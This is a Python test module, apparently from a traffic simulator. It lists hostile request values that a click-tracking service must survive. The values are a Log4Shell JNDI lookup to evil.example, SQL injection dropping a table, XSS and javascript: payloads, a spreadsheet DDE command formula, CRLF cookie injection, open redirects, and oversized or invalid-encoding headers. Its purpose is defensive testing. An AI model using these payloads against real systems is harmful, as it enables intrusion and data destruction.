"""Requests for a valid link with values that break careless programs: each must get a click or 400. Pure."""

from random import Random
from typing import Final

import msgspec

from simulate.browsers import Header
from simulate.rng import draw_one


class Attack(msgspec.Struct, frozen=True):
    """`headers` replace the visitor's headers of the same name. Lone surrogates stand for bytes that are not UTF-8."""

    headers: tuple[Header, ...] = ()
    query: str = ""


ATTACKS: Final = (
    Attack((("User-Agent", "\udcff\udcfe"),)),
    Attack((("User-Agent", "Mozilla/5.0 " + "A" * 9_000),)),
    Attack((("User-Agent", "Mozilla/5.0 " + "A" * 8_000),)),
    Attack((("User-Agent", "BlackBerry" + "9" * 4_301),)),
    Attack((("User-Agent", "{{7*7}} ${jndi:ldap://evil.example/x} %n%s"),)),
    Attack((("User-Agent", 'a" 200 1 "x \u202etxt.exe \ufeff'),)),
    Attack((("User-Agent", "' OR 1=1; DROP TABLE clicks; --"),)),
    Attack((("User-Agent", ""),)),
    Attack((("User-Agent", "bell \x07, escape \x1b[31m"),)),
    Attack((("Referer", "<img src=x onerror=alert(1)>"),)),
    Attack((("Referer", "javascript:alert(1)"),)),
    Attack((("Referer", "https://caf\udce9.example/"),)),
    Attack((("Referer", "https://\udced\udca0\udc80.example/"),)),
    Attack((("Referer", "https://long.example/" + "x" * 7_000),)),
    Attack((("Accept-Language", "=cmd|'/c calc'!A1"),)),
    Attack((("Sec-CH-UA", '"' * 2_000),)),
    Attack((("X-Forwarded-For", "' OR 1=1"),)),
    Attack((("X-Forwarded-For", "999.1.1.1"),)),
    Attack((("X-Forwarded-For", "fe80::1%eth0"),)),
    Attack((("X-Forwarded-For", "::ffff:81.2.69.142"),)),
    Attack((("X-Forwarded-For", "10.0.0.1, 81.2.69.142"), ("X-Forwarded-For", "81.2.69.143"))),
    Attack((("Cookie", "cr-demo=v1.k1." + "A" * 5_000),)),
    Attack((("Cookie", 'cr-demo=v1.k1.AAAA; cr-demo=v1.zz.BBBB; v="x\\012FAKE"; =; ;;'),)),
    Attack(query="sub1=x%00y&sub2=%0d%0aSet-Cookie:%20x=1"),
    Attack(query="u=https://evil.example&url=https://evil.example&next=//evil.example"),
    Attack(query="sub1=%ff%fe&utm_source=%ed%a0%80&gclid=%"),
    Attack(query="sub1=" + "y" * 3_000),
    Attack(query="&".join(f"p{number}=1" for number in range(300))),
    Attack(query="utm_source=%3Cscript%3Ealert(1)%3C/script%3E&utm_campaign=%7Bclick_id%7D"),
)


def draw_attack(rng: Random) -> Attack:
    return draw_one(rng, ATTACKS)


def attack_with(attack: Attack, headers: tuple[Header, ...]) -> tuple[Header, ...]:
    """Give a visitor's headers with the attack's in their place."""
    replaced = {name for name, _ in attack.headers}
    return (*(header for header in headers if header[0] not in replaced), *attack.headers)
